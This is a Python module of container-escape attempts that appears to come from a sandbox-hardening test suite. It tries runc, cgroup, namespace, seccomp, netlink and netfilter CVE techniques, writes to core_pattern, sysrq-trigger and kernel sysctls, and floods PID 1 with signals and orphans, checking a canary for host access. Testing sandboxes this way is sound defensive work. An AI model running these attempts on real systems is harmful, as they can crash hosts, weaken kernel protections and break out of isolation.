"""Attempts after techniques of 2024 to 2026 and what a newer kernel below brings: by the door that each goes through.

Run inside by the image's own python3, never on the host.
"""

# mypy: ignore-errors

from __future__ import annotations

import contextlib
import ctypes
import fcntl
import glob
import mmap
import os
import random
import resource
import select
import signal
import socket
import struct
import threading
import time

from attempting import FACTS, attempt, call, driven, is_outside, opened, read

NEW_USER, NEW_NS, NEW_NET, NEW_CGROUP, NEW_PID = 0x10000000, 0x20000, 0x40000000, 0x2000000, 0x20000000
BIND, DETACH = 0x1000, 2
HARMLESS = {(1, 3), (1, 5), (1, 7), (1, 8), (1, 9), (5, 0), (5, 2)}  # null, zero, full, random, urandom, tty, ptmx


def written(path, data):
    """Whether a file took it."""
    try:
        with open(path, "wb", buffering=0) as file:
            return file.write(data) > 0
    except OSError:
        return False


def forked(function, seconds=3):
    """What a child of ours returns, told by its status; 0 for nothing."""
    child = os.fork()
    if child == 0:
        signal.alarm(seconds)
        try:
            os._exit(1 if function() else 0)
        except BaseException:
            os._exit(0)
    return os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 1


def asked(protocol, message, groups=0):
    """The first answer of a netlink family, or nothing."""
    with socket.socket(16, 3, protocol) as line:
        line.settimeout(0.5)
        line.bind((0, groups))
        if message:
            line.send(message)
        return line.recv(65536)


def header(kind, flags, body):
    return struct.pack("IHHII", 16 + len(body), kind, flags, 1, 0) + body


# ---- runc's masked paths and its friends, CVE-2025-31133, CVE-2025-52565, CVE-2025-52881


@attempt
def a_mask_that_is_a_link():
    """What masks a path is a link when it is bound: /dev/null leads to a file of the kernel's."""
    for target in ("/proc/sys/kernel/core_pattern", "/proc/kcore", "/proc/1/root"):
        with contextlib.suppress(OSError):
            os.unlink("/tmp/null")
        os.symlink(target, "/tmp/null")
        call(165, b"/tmp/null", b"/dev/null", None, BIND, None)
        written("/dev/null", b"|/bin/false")
        if found := is_outside(read("/dev/null", 65536)):
            return found
        call(166, b"/dev/null", DETACH)
    return None


@attempt
def a_console_that_is_a_link():
    os.makedirs("/tmp/pts", exist_ok=True)
    call(165, b"/tmp/pts", b"/dev/pts", None, BIND, None)
    with contextlib.suppress(OSError):
        os.symlink("/proc/sys/kernel/core_pattern", "/dev/pts/0")
    call(165, b"/dev/pts/0", b"/dev/console", None, BIND, None)
    written("/dev/console", b"|/bin/false")
    return


@attempt
def writes_that_are_led_elsewhere():
    """A label that is written to /proc/self/attr goes where somebody has mounted over it."""
    for name in ("exec", "current"):
        for target in (b"/proc/sys/kernel/core_pattern", b"/proc/sys/kernel/modprobe"):
            call(165, target, f"/proc/self/attr/{name}".encode(), None, BIND, None)
            written(f"/proc/self/attr/{name}", b"|/bin/false")
    return


@attempt
def a_tmpfs_over_proc_and_what_shows_below():
    call(165, b"tmpfs", b"/proc", b"tmpfs", 0, None)
    os.mkdir("/proc/sys")
    call(166, b"/proc", DETACH)
    call(166, b"/proc", DETACH)
    return is_outside(read("/proc/version") + read("/proc/sys/kernel/osrelease"))


@attempt
def one_of_our_mounts_moved_away():
    """MS_MOVE of what the cell is made of, then what lay below it."""
    os.makedirs("/tmp/away", exist_ok=True)
    for path in (b"/proc", b"/sys", b"/dev", b"/run", b"/dev/pts", b"/dev/null"):
        call(165, path, b"/tmp/away", None, 0x2000, None)
        if found := is_outside(read(FACTS["canary_path"]) + read("/proc/version") + read("/sys/kernel/uevent_helper")):
            return found
    return None


@attempt
def a_working_directory_of_any_process():
    """CVE-2024-21626 by every name that leads to a directory: cwd, root, fd and map_files of each process."""
    for pid in [*map(int, filter(str.isdigit, os.listdir("/proc"))), FACTS["pid"]]:
        for name in ("cwd", "root", f"task/{pid}/cwd", f"task/{pid}/root"):
            with contextlib.suppress(OSError):
                place = os.open(f"/proc/{pid}/{name}", 0o10000000)
                inside = os.open(FACTS["canary_path"].lstrip("/"), os.O_RDONLY, dir_fd=place)
                return is_outside(os.read(inside, 64))
    return None


@attempt
def files_that_others_have_mapped():
    for pid in filter(str.isdigit, os.listdir("/proc")):
        with contextlib.suppress(OSError):
            for name in os.listdir(f"/proc/{pid}/map_files")[:8]:
                if is_outside(read(f"/proc/{pid}/map_files/{name}")):
                    return f"{pid}/{name}"
    return None


@attempt
def the_program_of_the_first_process_by_a_path_descriptor():
    """CVE-2019-5736 again: O_PATH first, then the same file opened to be written by /proc/self/fd."""
    for pid in (1, 2, os.getppid()):
        with contextlib.suppress(OSError):
            place = os.open(f"/proc/{pid}/exe", 0o10000000)
            found = opened(f"/proc/self/fd/{place}", os.O_RDWR)
            if found >= 0 and os.fstat(found).st_dev != os.stat("/usr").st_dev:
                return str(pid)
    return None


# ---- namespaces, by what a newer kernel lets somebody ask


@attempt
def spaces_by_their_ioctls():
    """NS_GET_PARENT, NS_GET_USERNS, NS_MNT_GET_NEXT and _PREV, and all of nsfs' numbers: none leads out."""
    ours = {os.stat(f"/proc/self/ns/{name}").st_ino for name in os.listdir("/proc/self/ns")}
    for name in os.listdir("/proc/self/ns"):
        space = opened(f"/proc/self/ns/{name}")
        for number in range(1, 32):
            for shape in (0xB700, 0x8010B700, 0x8008B700, 0x8004B700):
                room = ctypes.create_string_buffer(64)
                found = call(16, space, shape | number, room)
                if found > 2 and found != space:
                    with contextlib.suppress(OSError):
                        if os.readlink(f"/proc/self/fd/{found}").startswith("mnt:") and os.fstat(found).st_ino not in ours:
                            call(308, found, 0)
                            if is_outside(read(FACTS["canary_path"])):
                                return f"{name} by {shape | number:#x}"
    return None


@attempt
def spaces_of_a_pidfd():
    """PIDFD_GET_*_NAMESPACE (Linux 6.11), then setns."""
    for pid in (1, os.getppid(), FACTS["pid"]):
        pidfd = call(434, pid, 0)
        for number in range(1, 11):
            space = call(16, pidfd, 0xFF00 | number, 0) if pidfd >= 0 else -1
            if space >= 0 and call(308, space, 0) == 0 and is_outside(read(FACTS["canary_path"])):
                return f"{pid}: {number}"
        if pidfd >= 0 and call(308, pidfd, NEW_NS | NEW_NET | NEW_PID) == 0 and is_outside(read(FACTS["canary_path"])):
            return f"{pid}: all"
    return None


@attempt
def handles_of_spaces_and_processes():
    """nsfs and pidfs have handles since Linux 6.18 and 6.14, and roots that no descriptor is needed for."""
    for root in (-10002, -10003, -10004, -200, -1):
        for kind in (0xF1, 0xF2, 0x1, 0xFE):
            for ino in (1, 2, 3, 0xEFFFFFFF, 0xF0000000, 4026531840, 4026531841, FACTS["pid"]):
                handle = ctypes.create_string_buffer(struct.pack("IiQQQ", 24, kind, ino, 0x20000, ino))
                found = call(304, root, handle, 0)
                if found >= 0:
                    return f"{root} type {kind:#x}: {os.readlink(f'/proc/self/fd/{found}')}"
    return None


@attempt
def more_groups_than_were_given():
    """CVE-2014-8989: setgroups denied, allowed again, and a group that is not mapped."""

    def inner():
        call(272, NEW_USER)
        written("/proc/self/setgroups", b"deny")
        allowed = written("/proc/self/setgroups", b"allow")
        written("/proc/self/gid_map", b"0 0 1")
        with contextlib.suppress(OSError):
            os.setgroups([0, 4, 27, 999])
            return allowed and 27 in os.getgroups()
        return False

    return "denied and allowed" if forked(inner) else None


@attempt
def a_map_of_more_than_five_ranges():
    """CVE-2018-18955: nested, with ranges enough for the other way in which they are kept."""

    def inner():
        call(272, NEW_USER)
        lines = b"".join(b"%d %d 1\n" % (at, at) for at in range(12))
        written("/proc/self/uid_map", lines)
        call(272, NEW_USER)
        written("/proc/self/uid_map", lines)
        return written("/proc/sys/kernel/core_pattern", b"|/bin/false") and b"false" in read("/proc/sys/kernel/core_pattern")

    forked(inner)  # whether the host's has changed is looked at from there
    return


@attempt
def release_agent_in_namespaces_of_our_own():
    """CVE-2022-0492: a hierarchy of version 1 mounted by who has just become root somewhere."""

    def inner():
        call(272, NEW_USER | NEW_CGROUP | NEW_NS)
        for kind in (b"rdma", b"misc", b"memory", b"none,name=x", b"cpuset", b"devices"):
            if call(165, b"x", b"/mnt", b"cgroup", 0, kind) == 0 and written("/mnt/release_agent", b"/tmp/x"):
                return True
            call(166, b"/mnt", DETACH)
        return False

    return "an agent" if forked(inner) else None


# ---- the filter and who answers for it


@attempt
def tracing_with_the_filter_suspended():
    """PTRACE_O_SUSPEND_SECCOMP on a child of ours, and PTRACE_SECCOMP_GET_FILTER."""
    child = os.fork()
    if child == 0:
        time.sleep(2)
        os._exit(0)
    call(101, 0x4206, child, 0, 0)  # PTRACE_SEIZE
    suspended = call(101, 0x4200, child, 0, 0x200000)
    filter_ = call(101, 0x420C, child, 0, 0)
    os.kill(child, 9)
    os.waitpid(child, 0)
    return f"suspended {suspended}" if suspended >= 0 else f"{filter_} instructions" if filter_ >= 0 else None


@attempt
def a_filter_that_allows_all():
    """The strictest of all filters counts; a listener of ours would hear before the first process does."""
    code = struct.pack("HBBI", 0x06, 0, 0, 0x7FFF0000)
    room = ctypes.create_string_buffer(code)
    program = ctypes.create_string_buffer(struct.pack("HxxxxxxP", 1, ctypes.addressof(room)))

    def inner():
        call(157, 38, 1, 0, 0, 0)
        call(317, 1, 0, program)
        bent = ctypes.create_string_buffer(128)
        return call(321, 0, bent, 72) >= 0 or call(425, 8, bent) >= 0 or call(323, 0) >= 0

    listener = call(317, 1, 8, program)
    return f"listener {listener}" if listener >= 0 else "loosened" if forked(inner) else None


@attempt
def questions_of_a_filter_that_are_not_ours():
    """SECCOMP_IOCTL_NOTIF_RECV, _ID_VALID and _ADDFD on whatever is open."""
    for number in range(3, 256):
        for order in (0xC0502100, 0xC0182101, 0x40082102, 0x40182103, 0x40082104):
            if call(16, number, order, ctypes.create_string_buffer(128)) >= 0:
                return f"{number}: {order:#x}"
    return None


@attempt
def every_number_with_arguments_at_the_edge():
    """A page that ends, minus one, half mapped and far away, for each call that Linux 6.1 has in a process of its own."""
    page = mmap.mmap(-1, 8192)
    start = ctypes.addressof(ctypes.c_char.from_buffer(page))
    call(10, start + 4096, 4096, 0)  # mprotect(PROT_NONE)
    ends = [start + 4096 - 1, start + 4096 - 8, start + 4096]
    shapes = [ends + ends, [0xFFFFFFFFFFFFFFFF] * 6, [FACTS["pid"], *ends, 0x7FFFFFFF, 0], [3, 1 << 31, 1 << 63, ends[1], 0, 1]]
    left_out = {56, 57, 58, 435, 15, 34, 61, 130, 219, 231, 60}  # forks, and what only waits or ends
    for number in range(460):
        if number in left_out:
            continue
        child = os.fork()
        if child == 0:
            signal.alarm(1)
            os.setsid()
            for shape in shapes:
                call(number, *shape)
            os._exit(0)
        os.waitpid(child, 0)
    return


@attempt
def a_name_that_changes_while_it_is_judged():
    """execve of a path that another thread writes over: whatever runs, nobody of ours ends by it."""
    name = ctypes.create_string_buffer(b"/bin/true\0" + bytes(32))
    argv = (ctypes.c_char_p * 2)(b"x", None)
    stop = time.monotonic() + 0.8

    def swap():
        while time.monotonic() < stop:
            name.raw = b"/bin/true\0" + bytes(33)
            name.raw = b"/nowhere/at/all\0" + bytes(27)

    threading.Thread(target=swap, daemon=True).start()
    while time.monotonic() < stop:
        child = os.fork()
        if child == 0:
            call(59, name, argv, None)
            os._exit(0)
        os.waitpid(child, 0)
    return


@attempt
def a_program_without_a_name():
    """memfd_create(2) and execveat(2): a script, and a program of the image with its end bent."""
    for content in (b"#!/bin/sh\nexit 9\n", read("/bin/true", 1 << 20)[:-1] + b"x"):
        place = os.memfd_create("x")
        os.write(place, content)
        child = os.fork()
        if child == 0:
            call(322, place, b"", (ctypes.c_char_p * 2)(b"x", None), None, 0x1000)
            os._exit(0)
        os.waitpid(child, 0)
    return


# ---- processes


@attempt
def memory_by_the_vector_calls():
    """process_vm_readv, process_vm_writev, process_madvise and process_mrelease of whoever is not ours."""
    room = ctypes.create_string_buffer(64)
    here = ctypes.create_string_buffer(struct.pack("PN", ctypes.addressof(room), 64))
    for pid in (1, 2, 3, FACTS["pid"]):
        for address in (0x400000, 0x555555554000, 0x7FFFFFFDE000):
            there = ctypes.create_string_buffer(struct.pack("PN", address, 64))
            if call(310, pid, here, 1, there, 1, 0) > 0 or call(311, pid, here, 1, there, 1, 0) > 0:
                return f"{pid} at {address:#x}"
        pidfd = call(434, pid, 0)
        if pidfd >= 0 and (call(440, pidfd, here, 1, 4, 0) > 0 or call(448, pidfd, 0) == 0):
            return f"{pid} by its descriptor"
    return None


@attempt
def the_first_process_is_seized():
    for order in (0x4206, 16):  # PTRACE_SEIZE, PTRACE_ATTACH
        for pid in (1, FACTS["pid"]):
            if call(101, order, pid, 0, 0) == 0:
                return f"{order} of {pid}"
    return None


@attempt
def signals_by_descriptors_that_are_no_pidfds():
    """pidfd_send_signal(2) takes a directory of /proc as well, and flags for groups and threads."""
    for path in ("/proc/1", "/proc/1/task/1", f"/proc/{FACTS['pid']}", "/proc/self"):
        place = opened(path, os.O_RDONLY | os.O_DIRECTORY)
        if place >= 0 and call(424, place, 0, None, 0) == 0 and path.startswith("/proc/1"):
            return path
    return None


@attempt
def a_flood_of_signals_to_the_first_process():
    for number in range(1, 65):
        for _ in range(5):
            call(62, 1, number)
            call(129, 1, number, struct.pack("iii116x", number, 0, -1))
    return


@attempt
def a_flood_of_orphans():
    """Hundreds whose parents have gone: the first process has all of them to bury."""
    for _ in range(60):
        child = os.fork()
        if child == 0:
            for _ in range(3):
                if os.fork() == 0:
                    os._exit(0)
            os._exit(0)
        os.waitpid(child, 0)
    return


@attempt
def numbers_of_processes_chosen():
    """clone3(2) with set_tid: 1, and numbers of the machine's."""
    for wanted in (1, 2, FACTS["pid"]):
        tids = ctypes.create_string_buffer(struct.pack("I", wanted))
        arguments = struct.pack("11Q", 0, 0, 0, 0, 17, 0, 0, 0, ctypes.addressof(tids), 1, 0)
        pid = call(435, ctypes.create_string_buffer(arguments), 88)
        if pid == 0:
            os._exit(0)
        if pid > 0:
            os.waitpid(pid, 0)
        if pid == 1:
            return "the first"
    return None


@attempt
def a_crash_with_all_its_memory():
    """CVE-2025-4598, CVE-2025-5054: the machine's handler of crashes would be told of it."""

    def inner():
        resource.setrlimit(resource.RLIMIT_CORE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        os.chdir("/tmp")
        os.abort()

    for _ in range(2):
        forked(inner)
    return


# ---- devices


@attempt
def every_device_that_stands_in_dev():
    for directory, _, names in os.walk("/dev"):
        for name in names:
            path = os.path.join(directory, name)
            with contextlib.suppress(OSError):
                facts = os.stat(path)
                numbers = os.major(facts.st_rdev), os.minor(facts.st_rdev)
                if facts.st_mode & 0o170000 in (0o020000, 0o060000) and numbers not in HARMLESS and numbers[0] != 136:
                    for flags in (os.O_RDONLY, os.O_RDWR):
                        if driven(path, flags | os.O_NONBLOCK | os.O_NOCTTY) >= 0:
                            return f"{path} {numbers}"
    return None


@attempt
def every_device_by_its_number():
    for kind in (0o020000, 0o060000):
        for major in (*range(1, 16), 21, 29, 89, 90, 108, 116, 180, 189, 195, 202, 226, *range(240, 262), 511):
            for minor in (0, 1, 11, 200, 229, 237):
                with contextlib.suppress(OSError):
                    os.mknod("/dev/shm/node", 0o666 | kind, os.makedev(major, minor))
                    found = driven("/dev/shm/node", os.O_RDONLY | os.O_NONBLOCK | os.O_NOCTTY)
                    if found >= 0 and (major, minor) not in HARMLESS:
                        return f"{kind:o} {major}:{minor}"
                with contextlib.suppress(OSError):
                    os.unlink("/dev/shm/node")
    return None


@attempt
def the_clock_of_the_machine():
    """/dev/rtc and /dev/ptp, and clocks that are descriptors."""
    for path in ("/dev/rtc0", "/dev/rtc", "/dev/ptp0", "/dev/hpet"):
        if driven(path) >= 0:
            return path
    for number in range(3, 64):
        if call(227, ((~number) << 3 | 3) & 0xFFFFFFFF, struct.pack("qq", 0, 0)) == 0:
            return f"descriptor {number}"
    return None


# ---- netlink and sockets


@attempt
def interfaces_that_a_dump_shows():
    for flags in (0, NEW_NET):
        if flags:
            call(272, flags)
        data = asked(0, header(18, 0x301, struct.pack("BBHiII", 0, 0, 0, 0, 0, 0)))
        for mac in FACTS["macs"]:
            if bytes.fromhex(mac.replace(":", "")) in data:
                return mac
    return None


@attempt
def interfaces_of_a_number_of_a_namespace():
    """RTM_GETLINK with IFLA_TARGET_NETNSID, and RTM_NEWNSID that gives the host's a number here."""
    for number in range(8):
        body = struct.pack("BBHiII", 0, 0, 0, 1, 0, 0) + struct.pack("HHi", 8, 46, number)
        data = asked(0, header(18, 1, body))
        if struct.unpack_from("H", data, 4)[0] == 16:
            return f"number {number}"
        body = struct.pack("Bxxx", 0) + struct.pack("HHi", 8, 1, number) + struct.pack("HHI", 8, 2, FACTS["pid"])
        if struct.unpack_from("i", asked(0, header(88, 5, body)), 16)[0] == 0:
            return f"the host's as {number}"
    return None


@attempt
def the_kernel_s_audit():
    body = struct.pack("10I", 1, 1, 0, 0, 0, 0, 0, 0, 0, 0)
    data = asked(9, header(1001, 5, body))
    return "set" if struct.unpack_from("i", data, 16)[0] == 0 else None


@attempt
def events_of_the_machine_s_devices():
    """NETLINK_KOBJECT_UEVENT and the connector that tells of every process: nothing of the host's arrives."""
    for protocol, groups, order in ((15, 3, b""), (11, 1, header(3, 0, struct.pack("IIIIHHI", 1, 1, 0, 0, 4, 0, 1)))):
        with contextlib.suppress(OSError):
            for _ in range(3):
                data = asked(protocol, order, groups)
                if data and struct.unpack_from("H", data, 4)[0] != 2:
                    return f"family {protocol}: {len(data)} bytes"
    return None


@attempt
def sockets_that_the_kernel_lists():
    """sock_diag of TCP, UDP and Unix sockets: the host's stay out."""
    for family, protocol in ((2, 6), (10, 6)):
        data = asked(4, header(20, 0x301, struct.pack("BBBBI", family, protocol, 0, 0, 1 << 10) + bytes(48)))  # who listens
        while len(data) >= 20:
            length, kind = struct.unpack_from("IH", data)
            port = struct.unpack_from(">H", data, 20)[0] if kind == 20 else 0
            if port in (FACTS["port"], FACTS["ssh"]):
                return f"port {port} of the host's"
            data = data[max(length + 3 & ~3, 16) :]
    seen = asked(4, header(20, 0x301, struct.pack("BBHIIIII", 1, 0, 0, 0xFFFFFFFF, 0, 1, 0, 0)))
    return is_outside(seen)


@attempt
def accounts_of_tasks():
    """TASKSTATS by generic netlink, of the host's process."""
    family = asked(16, header(16, 5, struct.pack("BBH", 3, 1, 0) + struct.pack("HH", 14, 2) + b"TASKSTATS\0\0\0"))
    at = family.find(struct.pack("HH", 6, 1))
    number = struct.unpack_from("H", family, at + 4)[0]
    data = asked(16, header(number, 5, struct.pack("BBH", 1, 1, 0) + struct.pack("HHI", 8, 1, FACTS["pid"])))
    return None if struct.unpack_from("H", data, 4)[0] == 2 else "told"


@attempt
def descriptors_sent_to_abstract_names():
    """SCM_RIGHTS to who listens under an abstract name, CVE-2020-15257's and ours."""
    names = [FACTS["abstract"], "/containerd-shim/moby/x/shim.sock", "/tmp/.X11-unix/X0", "/tmp/dbus-x", "/org/kernel/udev/monitor"]
    for name in names:
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
            with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX, kind) as line:
                line.connect("\0" + name)
                socket.send_fds(line, [b"x"], [0])
                return name
    return None


@attempt
def sockets_of_runtimes():
    for path in ("/run/docker.sock", "/var/run/docker.sock", "/run/containerd/containerd.sock", "/run/podman/podman.sock",
                 "/run/crio/crio.sock", "/run/systemd/private", "/run/dbus/system_bus_socket", "/run/udev/control"):  # fmt: skip
        with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as line:
            line.settimeout(0.5)
            line.connect(path)
            line.send(b"GET /info HTTP/1.0\r\n\r\n")
            if found := is_outside(line.recv(65536)):
                return f"{path}: {found}"
    return None


@attempt
def rings_of_packets_with_bent_sizes():
    """CVE-2020-14386, CVE-2025-38617: PACKET_RX_RING while the interface goes up and down."""
    with socket.socket(17, 3, 0x0300) as line:
        for version in (0, 1, 2):
            with contextlib.suppress(OSError):
                line.setsockopt(263, 10, version)
            for size in ((4096, 1, 2048, 2), (0xFFFFF000, 1, 1 << 31, 1), (4096, 1 << 20, 16, 1 << 28), (1 << 30, 64, 1 << 29, 128)):
                with contextlib.suppress(OSError):
                    line.setsockopt(263, 5, struct.pack("7I", *size, 0, 0, 0))
    return


@attempt
def queues_of_packets_on_our_interface():
    """CVE-2025-38001, CVE-2025-37798, CVE-2024-53141: qdiscs stacked on the one device that the stage holds the other end of."""
    for kind in (b"hfsc", b"drr", b"qfq", b"ets", b"codel", b"sfq", b"netem", b"plug", b"cake", b"tbf"):
        body = struct.pack("BxxxiIII", 0, 2, 0x10000, 0xFFFFFFFF, 0) + struct.pack("HH", 5 + len(kind), 1) + kind + b"\0"
        with contextlib.suppress(OSError):
            asked(0, header(36, 0x605, body + bytes(-len(body) % 4)))
    with contextlib.suppress(OSError), socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
        line.sendto(b"x", ("192.0.2.1", 9))
    return


@attempt
def tables_of_a_packet_filter():
    """CVE-2021-22555 and ip_tables' compat code: IPT_SO_SET_REPLACE with entries that are none."""
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, 255) as line:
        for option in (64, 65):
            for size in (0, 92, 96, 4096, 65536):
                with contextlib.suppress(OSError):
                    line.setsockopt(0, option, b"filter".ljust(32, b"\0") + b"\xff" * size)
    return


# ---- mounts


@attempt
def a_tree_that_is_mounted_nowhere():
    """open_tree(2) of /proc, /sys and the root: what is below, by the descriptor alone."""
    for path in (b"/proc", b"/sys", b"/", b"/dev"):
        for flags in (1, 1 | 0x8000):
            tree = call(428, -100, path, flags)
            for name in ("version", "1/root" + FACTS["canary_path"], "../../.." + FACTS["canary_path"], "sys/kernel/osrelease"):
                with contextlib.suppress(OSError):
                    if tree >= 0 and (found := is_outside(os.read(os.open(name, os.O_RDONLY, dir_fd=tree), 4096))):
                        return f"{path.decode()} {name}: {found}"
    return None


@attempt
def file_systems_by_their_context():
    """fsopen(2) of what mount(2) would not give: each a descriptor whose files are read."""
    for kind in (
        b"proc",
        b"sysfs",
        b"devtmpfs",
        b"cgroup2",
        b"tracefs",
        b"debugfs",
        b"securityfs",
        b"bpf",
        b"nsfs",
        b"pidfs",
        b"overlay",
    ):
        context = call(430, kind, 0)
        if context < 0:
            continue
        call(431, context, 6, None, None, 0)
        place = call(432, context, 0, 0)
        for name in ("version", "kernel/notes", "cgroup.controllers"):
            with contextlib.suppress(OSError):
                if place >= 0 and os.read(os.open(name, os.O_RDONLY, dir_fd=place), 16):
                    return f"{kind.decode()}: {name}"
    return None


@attempt
def a_redirection_in_an_overlay():
    """trusted.overlay.redirect that leads above the layer; CVE-2021-3493's kind."""
    for name in ("l/d", "u/d", "w", "m"):
        os.makedirs(f"/dev/shm/ov/{name}", exist_ok=True)
    for key in ("trusted.overlay.redirect", "user.overlay.redirect"):
        with contextlib.suppress(OSError):
            os.setxattr("/dev/shm/ov/u/d", key, b"/../../../../../" + os.path.dirname(FACTS["canary_path"]).encode())
    for more in (b"", b",userxattr", b",redirect_dir=on"):
        call(
            165, b"o", b"/dev/shm/ov/m", b"overlay", 0, b"lowerdir=/dev/shm/ov/l,upperdir=/dev/shm/ov/u,workdir=/dev/shm/ov/w" + more
        )
        if found := is_outside(read(f"/dev/shm/ov/m/d/{os.path.basename(FACTS['canary_path'])}")):
            return found
        call(166, b"/dev/shm/ov/m", DETACH)
    return None


@attempt
def marks_on_what_lies_outside():
    """inotify and fanotify: of our mounts, their file systems, and what /proc leads to."""
    watch = call(294, 0)
    for path in (b"/proc/1/root", b"/proc/1/cwd", b"/proc/1/exe", f"/proc/{FACTS['pid']}".encode(), FACTS["canary_path"].encode()):
        if call(254, watch, path, 0xFFF) >= 0 and path == FACTS["canary_path"].encode():
            return path.decode()
    return "fanotify" if call(300, 0x4, 0) >= 0 else None


@attempt
def settings_of_the_machine():
    """Every setting that can be opened below /proc/sys and a few below /sys is written; the host's own are looked at from there."""
    values = {"kernel/randomize_va_space": b"0", "fs/suid_dumpable": b"2", "kernel/kptr_restrict": b"0", "vm/overcommit_memory": b"1",
              "net/ipv4/ip_forward": b"1", "kernel/pid_max": b"400000", "kernel/panic": b"1", "vm/mmap_min_addr": b"0",
              "fs/protected_symlinks": b"0", "kernel/unprivileged_bpf_disabled": b"0", "user/max_user_namespaces": b"0"}  # fmt: skip
    for name, value in values.items():
        written(f"/proc/sys/{name}", value)
    written("/sys/kernel/mm/transparent_hugepage/enabled", b"never")
    written("/sys/kernel/uevent_helper", b"/tmp/x")
    for path in glob.glob("/sys/module/*/parameters/*")[:50]:
        written(path, b"1")
    return


@attempt
def proc_of_a_space_of_our_own():
    """It is mounted by who stands further out than we: in a user namespace too, again and again, and where the name changes meanwhile."""

    def looks(place):
        """What is seen of the machine, and through whoever is called 1 there."""
        found = is_outside(
            b"".join(read(f"{place}/{name}") for name in ("version", "1/mountinfo", "1/environ", "mounts", "1/cgroup"))
        )
        for name in ("1/root", "1/cwd", "self/root", "self/cwd"):
            found = found or is_outside(read(f"{place}/{name}{FACTS['canary_path']}"))
        written(f"{place}/sys/kernel/core_pattern", b"|/bin/false")
        written(f"{place}/1/oom_score_adj", b"-1000")
        written(f"{place}/sysrq-trigger", b"c")
        return found

    def mounts():
        for _ in range(30):
            os.makedirs("/tmp/space", exist_ok=True)
            if call(165, b"proc", b"/tmp/space", b"proc", 0, None) == 0 and (found := looks("/tmp/space")):
                return found
            call(166, b"/tmp/space", DETACH)
        return None

    def swaps():
        while True:
            with contextlib.suppress(OSError):
                os.rename("/tmp/swap", "/tmp/swap2")
                os.symlink(FACTS["canary_path"].rpartition("/")[0], "/tmp/swap")
                os.unlink("/tmp/swap")
                os.rename("/tmp/swap2", "/tmp/swap")

    os.makedirs("/tmp/swap", exist_ok=True)
    threading.Thread(target=swaps, daemon=True).start()
    for flags in (NEW_PID | NEW_NS, NEW_USER | NEW_PID | NEW_NS):
        if call(272, flags) != 0:
            continue
        reader, writer = os.pipe()
        if os.fork() == 0:
            signal.alarm(8)
            os.write(writer, (mounts() or "").encode())
            for _ in range(200):
                call(165, b"proc", b"/tmp/swap", b"proc", 0, None)
            os._exit(0)
        os.close(writer)
        if found := os.read(reader, 4096):
            return found.decode()
    return None


# ---- the FUSE server


@attempt
def a_file_read_into_itself():
    """read(2) and write(2) of a file whose own pages are the buffer: the server must not wait for who waits for it."""
    with open("/var/tmp/self", "w+b") as file:
        file.truncate(1 << 16)
        area = mmap.mmap(file.fileno(), 1 << 16)
        start = ctypes.addressof(ctypes.c_char.from_buffer(area))
        for flags in (0, 0o40000):  # and O_DIRECT
            place = opened("/var/tmp/self", os.O_RDWR | flags)
            for _ in range(20):
                call(17, place, start, 1 << 16, 0)
                call(18, place, start, 1 << 16, 4096)
                call(28, start, 1 << 16, 4)
    return


@attempt
def a_file_that_is_cut_while_it_is_mapped():
    def inner():
        with open("/var/tmp/cut", "w+b") as file:
            file.write(bytes(1 << 16))
            file.flush()
            area = mmap.mmap(file.fileno(), 1 << 16)
            file.truncate(0)
            return area[5000] + 1

    forked(inner)
    return


@attempt
def a_flood_of_things_forgotten():
    """Thousands of names looked up and dropped, while others are made."""
    os.makedirs("/var/tmp/forget", exist_ok=True)
    for _ in range(2):
        for number in range(200):
            with contextlib.suppress(OSError):
                os.close(os.open(f"/var/tmp/forget/{number}", os.O_CREAT | os.O_WRONLY))
        call(165, b"none", b"/var/tmp", None, 0x20, None)
        written("/proc/sys/vm/drop_caches", b"3")
        for number in range(200):
            with contextlib.suppress(OSError):
                os.unlink(f"/var/tmp/forget/{number}")
    return


@attempt
def a_directory_that_changes_while_it_is_read():
    os.makedirs("/var/tmp/many", exist_ok=True)
    stop = time.monotonic() + 0.8

    def churn():
        number = 0
        while time.monotonic() < stop:
            number += 1
            with contextlib.suppress(OSError):
                os.close(os.open(f"/var/tmp/many/{number % 500:0200d}", os.O_CREAT))
                os.rename(f"/var/tmp/many/{number % 500:0200d}", f"/var/tmp/many/{number % 77}")

    threading.Thread(target=churn, daemon=True).start()
    while time.monotonic() < stop:
        place = os.open("/var/tmp/many", os.O_RDONLY)
        for offset in (0, 1, 7, (1 << 63) - 1, 1 << 40):
            os.lseek(place, offset, 0) if offset < 1 << 62 else call(8, place, offset, 0)
            call(217, place, ctypes.create_string_buffer(300), 300)
        os.close(place)
    return


@attempt
def names_deeper_than_any_path():
    here = os.open("/var/tmp", os.O_RDONLY)
    made = 0
    try:
        for _ in range(150):
            os.mkdir("d" * 200, dir_fd=here)
            deeper = os.open("d" * 200, os.O_RDONLY, dir_fd=here)
            os.close(here)
            here, made = deeper, made + 1
    except OSError:
        pass
    os.fchdir(here)
    with contextlib.suppress(OSError):
        os.getcwd()
    return is_outside(read("../" * 400 + FACTS["canary_path"].lstrip("/")))


@attempt
def attributes_without_end():
    path = "/var/tmp/attributes"
    os.close(os.open(path, os.O_CREAT))
    for number in range(300):
        try:
            os.setxattr(path, f"user.{number}".ljust(240, "x"), b"y" * 60000)
        except OSError:
            break
    with contextlib.suppress(OSError):
        os.listxattr(path)
    for name in (
        "system.posix_acl_access",
        "security.capability",
        "security.selinux",
        "trusted.x",
        "user.",
        "btrfs.compression",
        "x" * 300,
    ):
        for size in (0, 1, 20, 65537):
            with contextlib.suppress(OSError, ValueError):
                os.setxattr(path, name, b"\2" * size)
    return


@attempt
def a_file_of_four_exabytes():
    place = os.open("/var/tmp/giant", os.O_CREAT | os.O_RDWR)
    for size in (1 << 40, 1 << 62, (1 << 63) - 1):
        with contextlib.suppress(OSError):
            os.ftruncate(place, size)
            os.pwrite(place, b"x", size - 1)
            os.pread(place, 4096, size - 4096)
            for whence in (3, 4):
                os.lseek(place, 0, whence)
    for mode in range(128):
        call(285, place, mode, 1 << 40, 1 << 30)
    call(326, place, struct.pack("q", 0), place, struct.pack("q", 100), 1 << 50, 0)
    os.unlink("/var/tmp/giant")
    return


@attempt
def locks_without_end():
    with open("/var/tmp/locked", "w+b") as file:
        for number in range(200):
